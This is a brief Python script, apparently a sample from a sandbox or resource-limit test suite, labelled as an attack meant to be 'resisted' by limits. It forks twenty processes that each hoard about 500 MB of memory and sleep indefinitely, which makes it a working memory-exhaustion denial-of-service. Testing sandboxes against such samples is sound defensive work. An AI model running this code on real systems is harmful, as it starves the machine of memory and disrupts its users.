# attack: takes all memory in many processes
# resisted from: limits
import os, time

for _ in range(20):
    try:
        if os.fork() == 0:
            hoard = [bytearray(b"x" * (500 * 2**20))]
            time.sleep(1e6)
    except (OSError, MemoryError):
        pass
time.sleep(1e6)
